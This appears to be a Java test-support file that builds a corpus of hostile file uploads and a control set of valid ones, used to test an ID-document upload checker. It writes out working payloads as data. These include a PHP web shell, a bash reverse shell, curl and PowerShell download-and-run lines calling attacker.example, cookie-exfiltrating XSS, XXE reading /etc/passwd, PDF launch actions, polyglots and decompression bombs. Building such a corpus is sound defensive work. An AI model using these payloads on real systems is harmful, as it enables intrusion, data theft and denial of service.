package id.go.kpu.eppid.testsupport;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.lowagie.text.Document;
import com.lowagie.text.DocumentException;
import com.lowagie.text.Image;
import com.lowagie.text.PageSize;
import com.lowagie.text.Paragraph;
import com.lowagie.text.pdf.PdfAction;
import com.lowagie.text.pdf.PdfDate;
import com.lowagie.text.pdf.PdfName;
import com.lowagie.text.pdf.PdfWriter;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Calendar;
import java.util.GregorianCalendar;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.TimeZone;
import java.util.regex.Pattern;
import java.util.zip.Adler32;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;

/**
 * A corpus of more than a thousand hostile file uploads, and a control group of well-formed ones, made in the test run
 * from fixed seeds: two builds give the same bytes and nothing binary is committed. The byte arrays are shared between
 * items and calls: read them, never change them.
 */
public final class HostileUploads {

    /** The largest ID scan the portal accepts: 5 MB. Oversized items are larger than this but valid JPEGs. */
    public static final long MAX_ID_BYTES = 5L * 1024 * 1024;

    public enum Category {
        EXECUTABLE, SCRIPT, ACTIVE_MARKUP, POLYGLOT, ACTIVE_PDF, ACTIVE_IMAGE, TRUNCATED, EMPTY, OVERSIZED,
        DECOMPRESSION_BOMB, HOSTILE_NAME
    }

    /** One hostile upload: what it is, the file name and Content-Type the client claims, and the bytes. */
    public record Upload(Category category, String label, String fileName, String declaredType, byte[] content) {

        public Upload {
            Objects.requireNonNull(label);
            Objects.requireNonNull(fileName);
            Objects.requireNonNull(declaredType);
            Objects.requireNonNull(content);
        }

        @Override
        public String toString() {
            return (category == null ? "WELL_FORMED" : category) + ": " + label + " (" + content.length + " bytes)";
        }
    }

    private HostileUploads() {
    }

    /** The whole corpus, same every time (fixed seeds), ≥ 1000 items, every category present. */
    public static List<Upload> corpus() {
        return CorpusHolder.CORPUS;
    }

    /**
     * Well-formed files of the accepted kinds (JPEG, PNG, PDF incl. compressed object streams and an embedded JPEG)
     * that a content check must still accept – the control group against false positives. Their category is null.
     */
    public static List<Upload> wellFormed() {
        return WellFormedHolder.WELL_FORMED;
    }

    /** Built on first use only (lazy holders), once per JVM. */
    private static final class CorpusHolder {
        static final List<Upload> CORPUS = build();
    }

    private static final class WellFormedHolder {
        static final List<Upload> WELL_FORMED = buildWellFormed();
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Claimed names and types

    private record Claim(String fileName, String declaredType) {
    }

    private static final String JPEG = "image/jpeg";
    private static final String PNG = "image/png";
    private static final String PDF = "application/pdf";
    private static final String OCTET = "application/octet-stream";
    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private static final List<Claim> ANY_CLAIMS = List.of(claim("ktp.jpg", JPEG), claim("ktp.jpeg", JPEG),
            claim("scan.JPG", JPEG), claim("ktp.png", PNG), claim("surat.pdf", PDF), claim("dokumen.pdf", PDF),
            claim("ktp.jpg", OCTET), claim("surat.pdf", OCTET));
    private static final List<Claim> JPEG_CLAIMS = List.of(claim("ktp.jpg", JPEG), claim("ktp.jpeg", JPEG),
            claim("scan.JPG", JPEG), claim("foto_ktp.jpg", OCTET));
    private static final List<Claim> PNG_CLAIMS = List.of(claim("ktp.png", PNG), claim("scan.PNG", PNG),
            claim("ktp.png", OCTET));
    private static final List<Claim> PDF_CLAIMS = List.of(claim("surat.pdf", PDF), claim("dokumen_pendukung.pdf", PDF),
            claim("SURAT.PDF", PDF), claim("ktp.pdf", "application/x-pdf"), claim("surat.pdf", OCTET));
    private static final List<Claim> GIF_CLAIMS = List.of(claim("ktp.gif", "image/gif"), claim("ktp.jpg", JPEG),
            claim("ktp.png", PNG), claim("ktp.jpg", OCTET));
    private static final List<Claim> EMPTY_CLAIMS = List.of(claim("ktp.jpg", JPEG), claim("scan.JPG", JPEG),
            claim("ktp.png", PNG), claim("surat.pdf", PDF), claim("dokumen.pdf", PDF), claim("ktp.jpg", OCTET));

    private static Claim claim(String fileName, String declaredType) {
        return new Claim(fileName, declaredType);
    }

    /** Adds one item per claim: the same bytes under each claimed name and type. */
    private static void add(List<Upload> out, Category category, String what, List<Claim> claims, byte[] content) {
        for (Claim c : claims) {
            out.add(new Upload(category, what + " as " + c.fileName() + " (" + c.declaredType() + ")", c.fileName(),
                    c.declaredType(), content));
        }
    }

    // ---------------------------------------------------------------------------------------------------------------
    // The corpus

    /** Valid files the hostile ones are made from. */
    private record Bases(byte[] smallJpeg, byte[] mediumJpeg, byte[] largeJpeg, byte[] smallPng, byte[] mediumPng,
            byte[] largePng, byte[] textPdf, byte[] imagePdf, byte[] compressedPdf, byte[] gif, byte[] exe) {
    }

    private static Bases bases() {
        byte[] smallJpeg = TestFiles.smallJpeg();
        return new Bases(smallJpeg, TestFiles.jpeg(320, 240, 11), TestFiles.jpeg(640, 480, 13), TestFiles.png(),
                TestFiles.png(160, 120, 17), TestFiles.png(320, 240, 19), textPdf(), imagePdf(smallJpeg),
                compressedPdf(), gif(), TestFiles.windowsExecutable());
    }

    /** Builds the corpus anew (package-private so a test can check that two builds are equal). */
    static List<Upload> build() {
        Bases b = bases();
        List<Upload> out = new ArrayList<>(1200);
        executables(out, b);
        scripts(out);
        activeMarkup(out);
        polyglots(out, b);
        activePdfs(out, b);
        activeImages(out, b);
        truncated(out, b);
        empty(out);
        oversized(out, b);
        bombs(out, b);
        hostileNames(out, b);
        return List.copyOf(out);
    }

    private static void executables(List<Upload> out, Bases b) {
        Map<String, byte[]> kinds = new LinkedHashMap<>();
        kinds.put("PE executable (i386)", b.exe());
        kinds.put("PE32+ DLL (x86-64)", pe(0x8664, true, true));
        kinds.put("ELF 64-bit executable (x86-64)", elf(true, 0x3e));
        kinds.put("ELF 32-bit executable (ARM)", elf(false, 0x28));
        kinds.put("Mach-O 64-bit executable (CF FA ED FE)", machO64(false, 0x01000007, 3));
        kinds.put("Mach-O 64-bit big-endian executable (FE ED FA CF)", machO64(true, 0x01000012, 0));
        kinds.put("Mach-O universal binary (CAFEBABE fat)", fatMachO());
        kinds.put("Java class file (CAFEBABE, version 61)", javaClass());
        kinds.put("JAR with a Main-Class manifest", jar());
        kinds.put("ZIP holding shell.php", zip(Map.of("shell.php", utf8(PHP_SHELL))));
        kinds.put("APK (ZIP with AndroidManifest.xml and classes.dex)", apk());
        kinds.put("MSI / OLE2 compound file", ole2());
        kinds.put("Android DEX", dex());
        kinds.put("WebAssembly module", wasm());
        kinds.put("Windows shortcut (LNK)", lnk());
        kinds.forEach((what, bytes) -> add(out, Category.EXECUTABLE, what, ANY_CLAIMS, bytes));
    }

    private static final String PHP_SHELL = "<?php system($_GET['c']); ?>\n";

    private static void scripts(List<Upload> out) {
        String phpEncoded = Base64.getEncoder().encodeToString(utf8("system($_GET['c']);"));
        Map<String, String> kinds = new LinkedHashMap<>();
        kinds.put("shell script (#!/bin/sh)", "#!/bin/sh\ncurl -s http://attacker.example/x | sh\n");
        kinds.put("bash reverse shell", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
        kinds.put("Python script (#!/usr/bin/env python)", "#!/usr/bin/env python\nimport os\nos.system('id')\n");
        kinds.put("Python without a shebang", "import os, subprocess\nsubprocess.call(['sh', '-c', 'id'])\n");
        kinds.put("PHP web shell", PHP_SHELL);
        kinds.put("PHP short echo tag", "<?= `$_GET[c]` ?>\n");
        kinds.put("PHP eval(base64_decode())", "<?php eval(base64_decode('" + phpEncoded + "')); ?>\n");
        kinds.put("JSP", "<%@ page import=\"java.io.*\" %>\n"
                + "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>\n");
        kinds.put("ASPX", "<%@ Page Language=\"C#\" %>\n"
                + "<% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>\n");
        kinds.put("Windows batch file", "@echo off\r\n"
                + "powershell -nop -w hidden -c \"iwr http://attacker.example/p.ps1 | iex\"\r\n");
        kinds.put("PowerShell", "$c = New-Object Net.WebClient\r\n"
                + "IEX $c.DownloadString('http://attacker.example/p.ps1')\r\n");
        kinds.put("JavaScript (Node.js)", "require('child_process').exec('id', (e, out) => console.log(out));\n");
        kinds.put("VBScript", "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c calc.exe\"\r\n");
        kinds.put("Perl", "#!/usr/bin/perl\nsystem($ENV{'QUERY_STRING'});\n");
        kinds.put("Ruby", "#!/usr/bin/env ruby\nputs `id`\n");
        kinds.forEach((what, text) -> add(out, Category.SCRIPT, what, ANY_CLAIMS, utf8(text)));
    }

    private static void activeMarkup(List<Upload> out) {
        String script = "<html><body><script>alert(document.cookie)</script></body></html>\n";
        Map<String, byte[]> kinds = new LinkedHashMap<>();
        kinds.put("HTML with <script>", utf8("<!DOCTYPE html>\n<html><head><title>KTP</title></head><body>"
                + "<script>alert(document.cookie)</script></body></html>\n"));
        kinds.put("HTML with <img onerror>", utf8("<html><body><img src=x onerror=\"alert(document.domain)\">"
                + "</body></html>\n"));
        kinds.put("HTML with <iframe>", utf8("<html><body><iframe src=\"https://attacker.example/phish\" width=\"100%\""
                + " height=\"100%\"></iframe></body></html>\n"));
        kinds.put("HTML with <body onload>", utf8("<html><body onload=\"fetch('https://attacker.example/?c='"
                + "+document.cookie)\">KTP</body></html>\n"));
        kinds.put("HTML with a javascript: link", utf8("<html><body><a href=\"javascript:alert(1)\">Lihat KTP</a>"
                + "</body></html>\n"));
        kinds.put("HTML with a meta refresh", utf8("<html><head><meta http-equiv=\"refresh\""
                + " content=\"0;url=https://attacker.example/\"></head></html>\n"));
        kinds.put("bare upper-case <SCRIPT>", utf8("<SCRIPT>alert(1)</SCRIPT>\n"));
        kinds.put("SVG with <script>", utf8("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\""
                + " width=\"100\" height=\"100\"><script type=\"text/javascript\">alert(document.domain)</script>"
                + "</svg>\n"));
        kinds.put("SVG with onload", utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">"
                + "<rect width=\"10\" height=\"10\"/></svg>\n"));
        kinds.put("SVG with a foreignObject iframe", utf8("<svg xmlns=\"http://www.w3.org/2000/svg\">"
                + "<foreignObject width=\"100\" height=\"100\"><body xmlns=\"http://www.w3.org/1999/xhtml\">"
                + "<iframe src=\"javascript:alert(1)\"></iframe></body></foreignObject></svg>\n"));
        kinds.put("XHTML with <script>", utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                + "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><script>alert(1)</script></body></html>\n"));
        kinds.put("XML with an external entity (XXE)", utf8("<?xml version=\"1.0\"?>\n"
                + "<!DOCTYPE ktp [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<ktp>&xxe;</ktp>\n"));
        kinds.put("XML entity expansion (billion laughs)", utf8(billionLaughs()));
        kinds.put("HTML after a UTF-8 BOM", concat(UTF8_BOM, utf8(script)));
        kinds.put("HTML after leading whitespace", utf8("\r\n\t   \n" + script));
        kinds.put("HTML in UTF-16LE with a BOM", ("\uFEFF" + script).getBytes(UTF_16LE));
        kinds.put("HTA application", utf8("<html><head><HTA:APPLICATION ID=\"ktp\" /></head><body>"
                + "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc.exe\"</script>"
                + "</body></html>\n"));
        kinds.forEach((what, bytes) -> add(out, Category.ACTIVE_MARKUP, what, ANY_CLAIMS, bytes));
    }

    private static String billionLaughs() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            String previous = "&lol" + (i - 1) + ";";
            xml.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">\n");
        }
        return xml.append("]>\n<lolz>&lol9;</lolz>\n").toString();
    }

    private static void polyglots(List<Upload> out, Bases b) {
        byte[] zip = zip(Map.of("shell.php", utf8(PHP_SHELL)));
        byte[] jar = jar();
        byte[] html = utf8("<html><body><script>alert(document.domain)</script></body></html>\n");
        Map<String, byte[]> jpegs = Map.of("JPEG 120x80", b.smallJpeg(), "JPEG 320x240", b.mediumJpeg());
        for (String base : List.of("JPEG 120x80", "JPEG 320x240")) {
            byte[] jpeg = jpegs.get(base);
            add(out, Category.POLYGLOT, base + " with a ZIP appended after EOI", JPEG_CLAIMS, concat(jpeg, zip));
            add(out, Category.POLYGLOT, base + " with a ZIP inside a COM segment", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xFE, zip)));
            add(out, Category.POLYGLOT, base + " with a JAR appended after EOI", JPEG_CLAIMS, concat(jpeg, jar));
            add(out, Category.POLYGLOT, base + " with PHP appended after EOI", JPEG_CLAIMS,
                    concat(jpeg, utf8(PHP_SHELL)));
            add(out, Category.POLYGLOT, base + " with HTML appended after EOI", JPEG_CLAIMS, concat(jpeg, html));
            add(out, Category.POLYGLOT, base + " with a PE executable appended after EOI", JPEG_CLAIMS,
                    concat(jpeg, b.exe()));
        }
        for (byte[] png : List.of(b.smallPng(), b.mediumPng())) {
            String base = "PNG " + pngWidth(png) + "x" + pngHeight(png);
            add(out, Category.POLYGLOT, base + " with a ZIP appended after IEND", PNG_CLAIMS, concat(png, zip));
            add(out, Category.POLYGLOT, base + " with HTML appended after IEND", PNG_CLAIMS, concat(png, html));
        }
        Map<String, byte[]> pdfs = Map.of("text PDF", b.textPdf(), "PDF with an ID scan", b.imagePdf());
        for (String base : List.of("text PDF", "PDF with an ID scan")) {
            byte[] pdf = pdfs.get(base);
            add(out, Category.POLYGLOT, base + " with a ZIP appended after %%EOF", PDF_CLAIMS, concat(pdf, zip));
            add(out, Category.POLYGLOT, base + " with HTML/script appended after %%EOF", PDF_CLAIMS, concat(pdf, html));
        }
        add(out, Category.POLYGLOT, "HTML page starting with %PDF-", PDF_CLAIMS,
                utf8("%PDF-1.7\n<html><body><script>alert(document.domain)</script></body></html>\n"));
        add(out, Category.POLYGLOT, "GIF with a JAR appended (GIFAR)", GIF_CLAIMS, concat(b.gif(), jar));
        add(out, Category.POLYGLOT, "GIF89a magic followed by PHP", GIF_CLAIMS, utf8("GIF89a;\n" + PHP_SHELL));
    }

    private static void activePdfs(List<Upload> out, Bases b) {
        String js = "<</Type/Action/S/JavaScript/JS(app.alert('KTP'))>>";
        Map<String, byte[]> kinds = new LinkedHashMap<>();
        kinds.put("PDF with /OpenAction JavaScript", pagePdf("/OpenAction 6 0 R", "", obj(js)));
        kinds.put("PDF with /OpenAction JavaScript in a FlateDecode stream", pagePdf("/OpenAction 6 0 R", "",
                obj("<</S/JavaScript/JS 7 0 R>>"), stream("/Filter/FlateDecode", zlib(utf8("app.alert('KTP');")))));
        kinds.put("PDF with a JavaScript name tree", pagePdf("/Names<</JavaScript 6 0 R>>", "",
                obj("<</Names[(init) 7 0 R]>>"), obj(js)));
        kinds.put("PDF with page /AA open JavaScript", pagePdf("", "/AA<</O 6 0 R>>", obj(js)));
        kinds.put("PDF with document /AA will-close JavaScript", pagePdf("/AA<</WC 6 0 R>>", "", obj(js)));
        kinds.put("PDF with a /Launch action", pagePdf("/OpenAction 6 0 R", "",
                obj("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc.exe)/O(open)>>/NewWindow true>>")));
        kinds.put("PDF with an /EmbeddedFile (payload.exe)", pagePdf("/Names<</EmbeddedFiles 6 0 R>>", "",
                obj("<</Names[(payload.exe) 7 0 R]>>"), fileSpec("payload.exe", 8),
                stream("/Type/EmbeddedFile/Subtype/application#2Fx-msdownload/Params<</Size " + b.exe().length + ">>",
                        b.exe())));
        kinds.put("PDF with a FileAttachment annotation (HTML)", pagePdf("", "/Annots[6 0 R]",
                obj("<</Type/Annot/Subtype/FileAttachment/Rect[72 600 92 620]/FS 7 0 R/Contents(lampiran)>>"),
                fileSpec("lampiran.html", 8), stream("/Type/EmbeddedFile", utf8("<script>alert(1)</script>"))));
        kinds.put("PDF with a /RichMedia (Flash) annotation", pagePdf("", "/Annots[6 0 R]",
                obj("<</Type/Annot/Subtype/RichMedia/Rect[72 400 472 700]/RichMediaContent 7 0 R"
                        + "/RichMediaSettings<</Activation<</Condition/PO>>>>>>"),
                obj("<</Assets<</Names[(player.swf) 8 0 R]>>"
                        + "/Configurations[<</Subtype/Flash/Instances[<</Asset 8 0 R>>]>>]>>"),
                fileSpec("player.swf", 9), stream("/Type/EmbeddedFile", swf())));
        kinds.put("PDF with an /XFA form and script",
                pagePdf("/AcroForm<</Fields[]/XFA 6 0 R>>/NeedsRendering true", "", stream("", utf8(XFA))));
        kinds.put("PDF with #-escaped /J#61vaScript", pagePdf("/OpenAction 6 0 R", "",
                obj("<</S/J#61vaScript/JS(app.alert('KTP'))>>")));
        kinds.put("PDF with #-escaped /#4A#53", pagePdf("/OpenAction 6 0 R", "",
                obj("<</S/JavaScript/#4A#53(app.alert('KTP'))>>")));
        kinds.put("PDF with fully #-escaped /OpenAction and /JavaScript",
                pagePdf("/#4F#70#65#6E#41#63#74#69#6F#6E 6 0 R", "",
                        obj("<</S/#4A#61#76#61#53#63#72#69#70#74/#4A#53(app.alert('KTP'))>>")));
        kinds.put("PDF with a javascript: /URI link", pagePdf("", "/Annots[6 0 R]",
                obj("<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]"
                        + "/A<</S/URI/URI(javascript:alert(document.cookie))>>>>")));
        kinds.put("PDF with a javascript: /URI open action", pagePdf("/OpenAction 6 0 R", "",
                obj("<</S/URI/URI(javascript:app.alert(1))>>")));
        kinds.put("PDF with a /SubmitForm action", pagePdf("/OpenAction 6 0 R/AcroForm<</Fields[]>>", "",
                obj("<</S/SubmitForm/F<</FS/URL/F(http://attacker.example/collect)>>/Flags 4>>")));
        kinds.put("PDF with a /GoToR to a UNC path", pagePdf("/OpenAction 6 0 R", "",
                obj("<</S/GoToR/F(\\\\\\\\attacker.example\\\\share\\\\x.pdf)/D[0/Fit]>>")));
        kinds.put("PDF with /OpenAction JavaScript added in an incremental update", incrementalOpenAction(js));
        kinds.put("PDF with document JavaScript (OpenPDF addJavaScript)",
                openPdf(false, 1, null, w -> w.addJavaScript("app.alert('KTP')")));
        kinds.put(COMPRESSED_JS_LABEL, openPdf(true, 1, null, w -> w.addJavaScript("app.alert('KTP')")));
        kinds.put("PDF with /OpenAction JavaScript (OpenPDF)", openPdf(false, 1, null,
                w -> w.setOpenAction(PdfAction.javaScript("app.launchURL('http://attacker.example/', true);", w))));
        kinds.put("PDF with an ID scan and /OpenAction JavaScript in a compressed object stream (OpenPDF)",
                openPdf(true, 1, b.smallJpeg(), w -> w.setOpenAction(PdfAction.javaScript("app.alert('KTP');", w))));
        kinds.put("PDF with document-close /AA JavaScript (OpenPDF)", openPdf(false, 1, null,
                w -> w.setAdditionalAction(PdfWriter.DOCUMENT_CLOSE, PdfAction.javaScript("app.alert('bye');", w))));
        kinds.put("PDF with a payload.exe file attachment (OpenPDF)", openPdf(false, 1, null,
                w -> w.addFileAttachment("lampiran", b.exe(), null, "payload.exe")));
        kinds.forEach((what, bytes) -> add(out, Category.ACTIVE_PDF, what, PDF_CLAIMS, bytes));
    }

    /** Label prefix of the PDF whose document JavaScript sits only inside a compressed object stream. */
    static final String COMPRESSED_JS_LABEL =
            "PDF with document JavaScript inside a compressed object stream (OpenPDF full compression)";

    private static final String XFA = "<?xml version=\"1.0\"?>\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">"
            + "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform name=\"f\">"
            + "<event activity=\"initialize\"><script contentType=\"application/x-javascript\">app.alert('KTP');"
            + "</script></event></subform></template></xdp:xdp>\n";

    private static void activeImages(List<Upload> out, Bases b) {
        String eval = "<?php eval(base64_decode($_POST['x'])); ?>";
        String script = "<script>alert(document.domain)</script>";
        for (byte[] jpeg : List.of(b.smallJpeg(), b.mediumJpeg())) {
            String base = "JPEG " + jpegWidth(jpeg) + "x" + jpegHeight(jpeg);
            add(out, Category.ACTIVE_IMAGE, base + " with a PHP web shell in a COM segment", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xFE, utf8(PHP_SHELL))));
            add(out, Category.ACTIVE_IMAGE, base + " with PHP eval in a COM segment", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xFE, utf8(eval))));
            add(out, Category.ACTIVE_IMAGE, base + " with a PHP short tag in a COM segment", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xFE, utf8("<?= `$_GET[c]` ?>"))));
            add(out, Category.ACTIVE_IMAGE, base + " with <script> in a COM segment", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xFE, utf8(script))));
            add(out, Category.ACTIVE_IMAGE, base + " with PHP in the EXIF ImageDescription", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xE1, exif(PHP_SHELL.trim()))));
            add(out, Category.ACTIVE_IMAGE, base + " with <script> in XMP metadata", JPEG_CLAIMS,
                    withSegment(jpeg, segment(0xE1, utf8("http://ns.adobe.com/xap/1.0/\0" + xmp(script)))));
        }
        for (byte[] png : List.of(b.smallPng(), b.mediumPng())) {
            String base = "PNG " + pngWidth(png) + "x" + pngHeight(png);
            add(out, Category.ACTIVE_IMAGE, base + " with a PHP web shell in a tEXt chunk", PNG_CLAIMS,
                    withPngChunk(png, pngChunk("tEXt", latin1("Comment\0" + PHP_SHELL))));
            add(out, Category.ACTIVE_IMAGE, base + " with <script> in a tEXt chunk", PNG_CLAIMS,
                    withPngChunk(png, pngChunk("tEXt", latin1("Description\0" + script))));
            add(out, Category.ACTIVE_IMAGE, base + " with PHP in a compressed zTXt chunk", PNG_CLAIMS,
                    withPngChunk(png, pngChunk("zTXt", concat(latin1("Comment\0\0"), zlib(utf8(eval))))));
            add(out, Category.ACTIVE_IMAGE, base + " with <script> in an iTXt XMP chunk", PNG_CLAIMS,
                    withPngChunk(png, pngChunk("iTXt", utf8("XML:com.adobe.xmp\0\0\0\0\0" + xmp(script)))));
        }
    }

    private static void truncated(List<Upload> out, Bases b) {
        List<Claim> jpegClaims = List.of(claim("ktp.jpg", JPEG), claim("scan.JPG", OCTET));
        List<Claim> pngClaims = List.of(claim("ktp.png", PNG), claim("ktp.png", OCTET));
        List<Claim> pdfClaims = List.of(claim("surat.pdf", PDF), claim("surat.pdf", OCTET));
        Map<String, byte[]> files = new LinkedHashMap<>();
        for (byte[] jpeg : List.of(b.smallJpeg(), b.mediumJpeg(), b.largeJpeg())) {
            files.put("JPEG " + jpegWidth(jpeg) + "x" + jpegHeight(jpeg), jpeg);
        }
        for (byte[] png : List.of(b.smallPng(), b.mediumPng(), b.largePng())) {
            files.put("PNG " + pngWidth(png) + "x" + pngHeight(png), png);
        }
        files.put("text PDF", b.textPdf());
        files.put("PDF with an ID scan", b.imagePdf());
        files.put("PDF in compressed object streams", b.compressedPdf());
        files.forEach((what, file) -> {
            List<Claim> claims = what.startsWith("JPEG") ? jpegClaims : what.startsWith("PNG") ? pngClaims : pdfClaims;
            for (int percent : new int[] {10, 25, 50, 75, 90}) {
                byte[] cut = cut(file, (int) ((long) file.length * percent / 100));
                add(out, Category.TRUNCATED, what + " cut at " + percent + " % (" + cut.length + " of " + file.length
                        + " bytes)", claims, cut);
            }
            byte[] cut = cut(file, file.length - 2);
            add(out, Category.TRUNCATED, what + " missing its last 2 bytes (" + cut.length + " of " + file.length
                    + " bytes)", claims, cut);
        });
    }

    /** The first {@code length} bytes, one less while they would still end like a whole JPEG (FF D9). */
    private static byte[] cut(byte[] file, int length) {
        int end = length;
        while (end >= 2 && file[end - 2] == (byte) 0xFF && file[end - 1] == (byte) 0xD9) {
            end--;
        }
        return Arrays.copyOf(file, end);
    }

    private static void empty(List<Upload> out) {
        Map<String, byte[]> kinds = new LinkedHashMap<>();
        kinds.put("zero-byte file", new byte[0]);
        kinds.put("a single space", latin1(" "));
        kinds.put("a single newline", latin1("\n"));
        kinds.put("CR LF only", latin1("\r\n"));
        kinds.put("space, tab and newline only", latin1(" \t\n"));
        kinds.put("UTF-8 BOM only", UTF8_BOM);
        kinds.put("UTF-16BE BOM only", new byte[] {(byte) 0xFE, (byte) 0xFF});
        kinds.put("UTF-16LE BOM only", new byte[] {(byte) 0xFF, (byte) 0xFE});
        kinds.forEach((what, bytes) -> add(out, Category.EMPTY, what, EMPTY_CLAIMS, bytes));
    }

    private static void oversized(List<Upload> out, Bases b) {
        byte[] justOver = padJpeg(b.smallJpeg(), MAX_ID_BYTES + 1);
        out.add(new Upload(Category.OVERSIZED, "valid JPEG of MAX_ID_BYTES + 1 bytes (COM padding)", "ktp.jpg", JPEG,
                justOver));
        out.add(new Upload(Category.OVERSIZED, "valid JPEG of MAX_ID_BYTES + 4 KiB (COM padding)", "scan.JPG", JPEG,
                padJpeg(b.mediumJpeg(), MAX_ID_BYTES + 4096)));
        out.add(new Upload(Category.OVERSIZED, "valid JPEG of MAX_ID_BYTES + 64 KiB (COM padding)", "ktp.jpeg", JPEG,
                padJpeg(b.smallJpeg(), MAX_ID_BYTES + 65536)));
        out.add(new Upload(Category.OVERSIZED, "valid PDF over MAX_ID_BYTES (embeds the padded JPEG)", "surat.pdf", PDF,
                openPdf(false, 1, justOver, w -> { })));
    }

    /** The JPEG with COM segments (≤ 65533 payload bytes each) after its APP0, {@code size} bytes long in all. */
    private static byte[] padJpeg(byte[] jpeg, long size) {
        long extra = size - jpeg.length;
        if (extra < 4 || size > Integer.MAX_VALUE) {
            throw new IllegalArgumentException("cannot pad " + jpeg.length + " bytes to " + size);
        }
        byte[] padding = latin1("KTP-PADDING ".repeat(65533 / 12 + 1));
        int at = afterApp0(jpeg);
        ByteArrayOutputStream out = new ByteArrayOutputStream((int) size);
        out.write(jpeg, 0, at);
        while (extra > 0) {
            long piece = Math.min(extra, 65533 + 4);
            if (extra - piece > 0 && extra - piece < 4) {
                piece -= 4; // leave room for one more segment header
            }
            out.writeBytes(segment(0xFE, Arrays.copyOf(padding, (int) piece - 4)));
            extra -= piece;
        }
        out.write(jpeg, at, jpeg.length - at);
        return out.toByteArray();
    }

    private static final int MIB = 1 << 20;

    private static void bombs(List<Upload> out, Bases b) {
        List<Claim> pngClaims = List.of(claim("ktp.png", PNG), claim("ktp.jpg", JPEG), claim("scan.PNG", OCTET));
        List<Claim> jpegClaims = List.of(claim("ktp.jpg", JPEG), claim("scan.JPG", JPEG), claim("ktp.jpeg", OCTET));
        List<Claim> pdfClaims = List.of(claim("surat.pdf", PDF), claim("SURAT.PDF", PDF), claim("surat.pdf", OCTET));
        List<Claim> zipClaims = List.of(claim("ktp.jpg", JPEG), claim("surat.pdf", PDF),
                claim("ktp.zip", "application/zip"));
        List<Claim> xlsxClaims = List.of(claim("rekap.xlsx", XLSX), claim("surat.pdf", PDF), claim("ktp.jpg", JPEG));

        byte[] idat = zlibZeros(8L * MIB);
        add(out, Category.DECOMPRESSION_BOMB, "PNG claiming 100000x100000 grey with 8 MiB of deflated zeros", pngClaims,
                png(100_000, 100_000, 8, 0, idat));
        add(out, Category.DECOMPRESSION_BOMB, "PNG claiming 50000x50000 RGBA with 8 MiB of deflated zeros", pngClaims,
                png(50_000, 50_000, 8, 6, idat));
        add(out, Category.DECOMPRESSION_BOMB, "PNG claiming 65535x65535 16-bit RGBA with 8 MiB of deflated zeros",
                pngClaims, png(65_535, 65_535, 16, 6, idat));
        add(out, Category.DECOMPRESSION_BOMB, "PNG claiming 1x2147483647 grey with 8 MiB of deflated zeros", pngClaims,
                png(1, Integer.MAX_VALUE, 8, 0, idat));
        add(out, Category.DECOMPRESSION_BOMB, "PNG 20000x20000 grey, every row deflated (400 MB of zeros)", pngClaims,
                png(20_000, 20_000, 8, 0, zlibZeros(20_000L * (20_000 + 1))));

        add(out, Category.DECOMPRESSION_BOMB, "JPEG whose SOF claims 65000x65000", jpegClaims,
                withDimensions(b.smallJpeg(), 65_000, 65_000));
        add(out, Category.DECOMPRESSION_BOMB, "progressive JPEG whose SOF claims 65535x65535", jpegClaims,
                withDimensions(progressiveJpeg(b.smallJpeg()), 65_535, 65_535));

        byte[] inflatesTo512MiB = zlibZeros(512L * MIB);
        add(out, Category.DECOMPRESSION_BOMB, "PDF whose FlateDecode page content inflates to 512 MiB", pdfClaims,
                pdf(catalogAndPages("", ""), stream("/Filter/FlateDecode", inflatesTo512MiB), obj(HELVETICA)));
        byte[] imageBomb = stream("/Type/XObject/Subtype/Image/Width 16384/Height 32768/ColorSpace/DeviceGray"
                + "/BitsPerComponent 8/Filter/FlateDecode", inflatesTo512MiB);
        add(out, Category.DECOMPRESSION_BOMB, "PDF whose FlateDecode 16384x32768 image inflates to 512 MiB", pdfClaims,
                pdf(catalogAndPages("/XObject<</Im1 6 0 R>>", ""), stream("", latin1("q 595 0 0 842 0 0 cm /Im1 Do Q")),
                        obj(HELVETICA), imageBomb));
